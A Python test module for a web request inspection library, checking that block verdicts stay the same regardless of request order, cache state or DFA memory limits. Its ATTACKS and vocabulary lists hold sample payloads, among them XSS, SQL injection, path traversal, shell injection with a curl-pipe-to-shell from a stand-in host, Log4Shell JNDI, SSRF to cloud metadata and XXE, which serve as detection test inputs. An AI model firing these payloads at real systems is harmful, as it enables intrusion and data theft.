"""A verdict depends on the request and the configuration only: not on the requests
inspected before it, their order, or what the process has warmed (the value memo,
RE2's lazily built DFA states, a memo emptied when full, a live level change).

The one state that does reach a verdict is the CPU budget
(:mod:`~pynomaly_security.detection.budget`): a cold DFA costs more CPU, so a very
long value right after start-up can be refused 413 where warm it passes. These
tests set the budget out of reach so that they check everything else; refusal past
the budget is tested in ``test_limits.py`` and, audited, in
``tests/middleware/test_refusals_audited.py``.

Verdicts are compared by decision and rule ids, never by time.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterable, Sequence

import pytest
import re2

from pynomaly_security.detection import Inspector, RequestParts
from pynomaly_security.detection._engine import DFA_MEMORY, RuleEngine
from pynomaly_security.detection.records import request_parts_from_record
from pynomaly_security.detection.rules import ALL_RULES
from pynomaly_security.detection.types import InspectionLimits, Verdict
from tests.conftest import require_shared
from tests.detection._helpers import form, header, json_body, query

ATTACKS = [
    "<script>alert(document.cookie)</script>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "1 UNION SELECT username, password FROM users",
    "1; WAITFOR DELAY '0:0:5'--",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fwindows/win.ini",
    "; cat /etc/shadow",
    "$(curl http://evil.example/x | sh)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{{config.items()}}",
    "http://169.254.169.254/latest/meta-data/",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "__import__('os').system('id')",
]
BENIGN = [
    "lamp",
    "red running shoes size 42",
    "Tom & Jerry's Café — 2 for £5",
    "What's the difference between <b> and <strong>?",
    "select a plan that fits your team",
    "O'Brien",
    "C:\\Users\\Public\\Documents\\report.docx",
    "https://example.com/blog/2024/05/post?utm_source=newsletter",
    "SGVsbG8sIHdvcmxkIQ==",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
    "Please call me at +1 (555) 010-9999 after 5 pm; thanks!",
    "price >= 10 and price <= 20",
]
BUILDERS = (query, form, lambda v: json_body({"name": v}), lambda v: header("x-note", v))
_SIZE = 16 * 1024
_SEEDS = ("' or '", "<a onx=", "../", "%25", "${{", "&#x3c;", "/*/**/", "`id")
_VOCAB = (
    "select", "union", "<script>", "alert(", "../", "etc/passwd", "${jndi:", "onerror=",
    "' or 1=1--", "; cat ", "|id", "{{7*7}}", "<svg/onload=", "javascript:", "sleep(",
    "`uname`", "$(id)", "%0a", "document.cookie", "eval(", "waitfor delay", "file://",
)  # fmt: skip
ROUNDS = ("forward", "reversed", "shuffled", "interleaved", "after-a-flood", "after-relevel")


def _adversarial() -> list[str]:
    """Long values that make the DFA build many states: repeated attack fragments,
    random ASCII, random text far from ASCII, and a mixture of payload words."""
    rnd = random.Random(2010)
    values = [(seed * (_SIZE // len(seed) + 1))[:_SIZE] for seed in _SEEDS]
    values.append("".join(chr(rnd.randrange(32, 127)) for _ in range(_SIZE)))
    values.append("".join(chr(rnd.randrange(0xA0, 0x3000)) for _ in range(_SIZE // 4)))
    mixed = (rnd.choice(_VOCAB) + rnd.choice(" =&/?x1'\"") for _ in range(_SIZE // 8))
    values.append("".join(mixed)[:_SIZE])
    return values


def _corpus_sample(every: int = 60) -> list[RequestParts]:
    """Every ``every``-th row of each developer corpus file (about 300 requests)."""
    sample: list[RequestParts] = []
    for path in sorted(require_shared("corpora").glob("*.jsonl")):
        # bytes.splitlines: the rows hold U+2028 and friends, which str.splitlines splits on
        lines = [line for line in path.read_bytes().splitlines() if line.strip()]
        sample.extend(request_parts_from_record(json.loads(line)) for line in lines[::every])
    return sample


def _own_requests() -> list[RequestParts]:
    return [build(value) for value in ATTACKS + BENIGN for build in BUILDERS]


def _inspector() -> Inspector:
    """Default configuration, the budget out of reach (see the module docstring)."""
    return Inspector(limits=InspectionLimits(budget_ms=600_000))


def _key(verdict: Verdict) -> tuple[object, ...]:
    """What a verdict decides: blocked or not, a refusal, the rules that matched
    where, and the score (no time in it)."""
    rules = sorted((f.rule_id, f.field, f.score) for f in verdict.findings)
    return (
        verdict.blocked,
        verdict.sink_confirmed,
        verdict.reject_status,
        verdict.reject_reason,
        verdict.score,
        tuple(rules),
    )


def _verdicts(
    inspector: Inspector, requests: Sequence[RequestParts], order: Iterable[int]
) -> dict[int, tuple[object, ...]]:
    return {index: _key(inspector.inspect(requests[index])) for index in order}


def _flood(inspector: Inspector) -> None:
    """More distinct short values than the memo keeps (it is emptied when full) and
    every adversarial value, so the memo and the DFA caches are nothing like fresh."""
    rnd = random.Random(12)
    for batch in range(9):
        words = ("".join(rnd.choices("abcdefghijklmnop", k=12)) for _ in range(1_000))
        pairs = "&".join(f"p{i}={word}{batch}" for i, word in enumerate(words))
        inspector.inspect(RequestParts("GET", "/search", pairs.encode()))
    for value in _adversarial():
        inspector.inspect(query(value))


def _check(requests: Sequence[RequestParts]) -> None:
    count = len(requests)
    assert count
    fresh = _verdicts(_inspector(), requests, range(count))
    assert any(key[0] for key in fresh.values()), "the set holds attacks that block"
    assert not all(key[0] for key in fresh.values()), "and requests that pass"

    warmed = _inspector()
    huge = [query(value) for value in _adversarial()]
    shuffled = list(range(count))
    random.Random(7).shuffle(shuffled)
    for name in ROUNDS:
        if name == "forward":
            seen = _verdicts(warmed, requests, range(count))
        elif name == "reversed":
            seen = _verdicts(warmed, requests, reversed(range(count)))
        elif name == "shuffled":
            seen = _verdicts(warmed, requests, shuffled)
        elif name == "interleaved":
            # A huge adversarial value before every few requests: its states crowd the
            # DFA caches between the verdicts compared.
            seen = {}
            for step, index in enumerate(shuffled):
                if step % max(1, count // (3 * len(huge))) == 0:
                    warmed.inspect(huge[step % len(huge)])
                seen.update(_verdicts(warmed, requests, [index]))
        elif name == "after-a-flood":
            _flood(warmed)
            seen = _verdicts(warmed, requests, range(count))
        else:
            # A live level change and back: new engines, new (cold) DFAs, new memos.
            warmed.reconfigure(level=3, mode="block")
            warmed.reconfigure(level=2, mode="block")
            seen = _verdicts(warmed, requests, shuffled)
        differ = [index for index in range(count) if seen[index] != fresh[index]]
        assert not differ, f"{name}: {len(differ)} verdicts differ, first {requests[differ[0]]}"

    # The warmed inspector and a fresh one agree once more, the fresh one second.
    assert _verdicts(_inspector(), requests, reversed(range(count))) == fresh


def test_own_values_get_the_same_verdict_in_any_order_and_state() -> None:
    _check(_own_requests())


def test_corpus_rows_get_the_same_verdict_in_any_order_and_state() -> None:
    """A sample of the developer corpora (skipped when ``../shared`` is missing,
    failed under CI=true)."""
    _check(_corpus_sample())


def _least_memory() -> int:
    """The smallest ``max_mem`` RE2 compiles the rule set with (to 64 KiB)."""
    low, high = 1 << 16, DFA_MEMORY
    while high - low > 1 << 16:
        middle = (low + high) // 2
        try:
            RuleEngine(ALL_RULES, shell=False, dfa_memory=middle)
        except re2.error:
            low = middle
        else:
            high = middle
    return high


def test_too_little_dfa_memory_fails_at_compile_time() -> None:
    """RE2 refuses a set whose DFA has no room to work at compile time (a set has no
    NFA to fall back on; ``_engine.DFA_MEMORY``): an error at start-up, not a
    scan that finds nothing."""
    with pytest.raises(re2.error):
        RuleEngine(ALL_RULES, shell=False, dfa_memory=1 << 16)


def test_the_least_dfa_memory_still_finds_every_match() -> None:
    """A set compiled with the least memory RE2 accepts empties its DFA cache again
    and again on long adversarial values, and still reports every rule whose own
    pattern matches: running out of DFA memory costs time, never a match."""
    least = RuleEngine(ALL_RULES, shell=False, dfa_memory=_least_memory())
    plenty = RuleEngine(ALL_RULES, shell=False)
    exact = [(rule, re2.compile(rule.pattern)) for rule in ALL_RULES]
    values = _adversarial()
    matched = 0
    for value in values:
        found = sorted(hit.rule.rule_id for hit in least.scan(value))
        assert found == sorted(hit.rule.rule_id for hit in plenty.scan(value))
        # The oracle: each rule's exact pattern alone (no set), with its check.
        expected = []
        for rule, pattern in exact:
            hit = pattern.search(value)
            if hit is not None:
                start, end = hit.span()
                if rule.check is None or rule.check(value, start, end) > 0:
                    expected.append(rule.rule_id)
        assert found == sorted(expected)
        matched += len(found)
    assert matched >= len(values)  # the values do match rules: the check is not vacuous
